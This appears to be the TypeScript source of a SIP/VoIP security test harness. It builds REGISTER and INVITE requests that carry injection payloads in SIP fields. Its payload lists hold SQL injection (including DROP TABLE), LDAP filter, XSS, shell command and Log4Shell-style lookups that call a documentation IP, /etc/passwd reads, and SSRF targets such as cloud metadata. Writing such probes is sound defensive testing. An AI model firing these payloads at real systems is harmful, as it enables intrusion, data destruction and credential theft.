import { type AttackClass, attack, PROBES } from './field.ts'

const SQL_CLAUSE = '3.1 SQL injection'
const TO = { uri: 'sip:reception@example.test' }

const SQL = [
  "' OR '1'='1",
  "alice'; UPDATE subscriber SET first_name='x",
  "x' UNION SELECT password FROM users--",
  "'; DROP TABLE users;--",
]
const LDAP = ['*)(uid=*))(|(uid=*', 'admin)(&)', '*)(objectClass=*']
const HTML = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(1)>']
const SHELL = [
  '$(id)',
  '`wget http://198.51.100.77/x`',
  '\x24{jndi:ldap://198.51.100.77/a}',
  '; cat /etc/passwd',
  '../../etc/passwd',
]

/** Texts meant for what lies behind: a data base, a directory, a page, a shell. */
export const INJECTION: readonly AttackClass[] = [
  attack(['B01', 'sql-in-register', SQL_CLAUSE], PROBES, field => i => {
    const phone = field.stranger(i)
    const user = pick(SQL, i)
    const request = phone.request('REGISTER', {
      uri: 'sip:example.test',
      to: field.victim(i),
      contact: phone.contact,
    })
    const offered = {
      user,
      realm: 'example.test',
      nonce: field.random.hex(40),
      uri: request.uri,
      password: '',
      count: 1,
    }
    field.edge.ask(phone, { ...request, offered })
  }),
  attack(['B02', 'sql-in-from', SQL_CLAUSE], PROBES, field => i => {
    const from = { uri: field.uri(escaped(pick(SQL, i))), tag: field.random.hex(6) }
    field.send(i, 'INVITE', { ...TO, to: TO, from })
  }),
  attack(['B02', 'sql-in-display', SQL_CLAUSE], PROBES, field => i => {
    const from = { uri: TO.uri, display: pick(SQL, i), tag: field.random.hex(6) }
    field.send(i, 'INVITE', { ...TO, to: TO, from })
  }),
  attack(['B02', 'sql-in-contact', SQL_CLAUSE], PROBES, field => i => {
    const contact = `<sip:${escaped(pick(SQL, i))}@192.0.2.99>`
    field.send(i, 'REGISTER', { uri: 'sip:example.test', to: field.victim(i), contact })
  }),
  attack(['B02', 'sql-in-request-uri', SQL_CLAUSE], PROBES, field => i => {
    const uri = field.uri(escaped(pick(SQL, i)))
    field.send(i, 'INVITE', { uri, to: { uri } })
  }),
  attack(['B03', 'directory-filter', '3.1'], PROBES, field => i => {
    const uri = field.uri(escaped(pick(LDAP, i)))
    field.send(i, 'REGISTER', { uri: 'sip:example.test', to: { uri }, from: { uri, tag: 'x' } })
  }),
  attack(['B04', 'script-in-display', '3.1'], PROBES, field => i => {
    const from = { uri: TO.uri, display: pick(HTML, i).replaceAll('"', '\\"'), tag: field.random.hex(6) }
    field.send(i, 'INVITE', { ...TO, to: TO, from })
  }),
  attack(['B05', 'shell-and-look-ups', '3.1'], PROBES, field => i => {
    field.send(i, 'INVITE', { ...TO, to: TO, headers: [['Subject', pick(SHELL, i)]] })
  }),
  attack(['B06', 'request-forgery-by-url', '3.3 identity'], PROBES, field => i => {
    const ports = [80, 8080, 8500, 2375, 6379]
    const inside = `http://10.0.0.${1 + (i % 20)}:${ports[i % ports.length]}/`
    const target = ['http://127.0.0.1/admin', 'http://169.254.169.254/latest/meta-data', inside][i % 3]
    const headers = [[i % 2 === 0 ? 'Alert-Info' : 'Call-Info', `<${target}>`]] as const
    field.send(i, 'INVITE', { ...TO, to: TO, headers })
  }),
]

function pick(list: readonly string[], i: number): string {
  return list[i % list.length] ?? ''
}

/** What cannot stand in a user part as it is. */
function escaped(text: string): string {
  return encodeURIComponent(text).replaceAll("'", '%27')
}
